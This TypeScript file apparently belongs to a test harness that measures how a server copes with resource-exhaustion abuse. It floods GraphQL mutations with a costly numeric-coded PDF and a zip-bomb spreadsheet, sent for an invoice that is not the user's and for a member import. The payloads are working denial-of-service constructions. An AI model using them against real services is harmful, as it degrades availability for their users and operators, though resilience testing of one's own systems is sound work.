import { setTimeout } from 'node:timers/promises';
import { strToU8, zipSync } from 'fflate';
import { pdfOf } from '../support/pdf-of.ts';
import type { Attack } from './attack.ts';
import { measure } from './support/measure.ts';
import { sendFromMany } from './support/send-from-many.ts';
import type { Target } from './support/target.ts';

const connections = 8;
const seconds = 10;
const tenMegabytes = 9_900_000;

const dataUrl = (bytes: Uint8Array) => `data:;base64,${Buffer.from(bytes).toString('base64')}`;

/** Names written with numeric codes only: the PDF that is most expensive to inspect. */
const document = dataUrl(pdfOf(['#41'.repeat(3_000_000)], tenMegabytes));
/** Five kilobytes that decompress to sixteen megabytes of cells without text. */
const workbook = dataUrl(
  zipSync({
    'xl/workbook.xml': strToU8(
      '<workbook xmlns:r="r"><sheets><sheet r:id="a"/></sheets></workbook>',
    ),
    'xl/_rels/workbook.xml.rels': strToU8('<a><b Id="a" Target="worksheets/a.xml"/></a>'),
    'xl/worksheets/a.xml': strToU8(
      `<worksheet><sheetData><row>${'<c/>'.repeat(3_900_000)}</row></sheetData></worksheet>`,
    ),
  }),
);

const receipt = () =>
  JSON.stringify({
    query: `mutation ($input: CreateReceiptInput!) { createReceipt(input: $input) { errors { code } } }`,
    variables: {
      input: {
        invoiceId: 'inv_00000000000000000000000000',
        attributes: { file: { data: document, filename: 'a.pdf' } },
      },
    },
  });

const list = () =>
  JSON.stringify({
    query: `mutation ($input: ImportAccountMembersInput!) {
      importAccountMembers(input: $input) { errors { code } } }`,
    variables: { input: { file: { data: workbook, filename: 'a.xlsx' }, preview: true } },
  });

const flood = ({ url, token }: Target, body: () => string) =>
  sendFromMany({ url: `${url}/graphql`, connections, seconds, token, body });

/** Documents and workbooks that are expensive to inspect, from a user without rights to them. */
export const attack: Attack = {
  says: `${connections} connections of one user send files that are dear to look into, for ${seconds} s each`,
  under: { 'a server with a folder': {} },
  run: async (target) => [
    await measure(target, 'alone', () => setTimeout(seconds * 1000)),
    await measure(target, 'PDFs for an invoice that is not theirs', () => flood(target, receipt)),
    await measure(target, 'sheets for no team', () => flood(target, list)),
    await measure(target, 'afterwards', () => setTimeout(seconds * 1000)),
  ],
};
